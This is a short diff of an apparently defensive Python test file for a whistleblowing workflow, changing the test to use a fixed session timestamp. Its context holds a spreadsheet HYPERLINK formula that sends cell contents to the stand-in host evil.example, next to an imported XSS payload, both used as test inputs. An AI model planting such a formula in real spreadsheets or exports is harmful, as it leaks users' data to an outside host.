@@ -16,8 +16,8 @@ from tests.security_world import XSS, build_security_world, drop_security_world
 from tests.test_workflow_whistles import plan
 from tests.workflow_world import PASSWORD, make_incident
 from workflow.accounts import load_actor
-from workflow.clock import utcnow
 from workflow.whistle_service import blow_whistle
+from tests.clock import SESSION_NOW
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
@@ -32,7 +32,7 @@ def sw(server_settings):
         accepted = make_incident(conn, world.world, "accepted", category="0101")
         second = make_incident(conn, world.world, "accepted", category="0102")
         chief = load_actor(conn, world.world.users["chief_a"])
-        now = utcnow()
+        now = SESSION_NOW
         blow_whistle(conn, chief, plan([accepted], matter=XSS), now)
         blow_whistle(conn, chief, plan([second], matter=FORMULA), now)
         world.world.conn = None
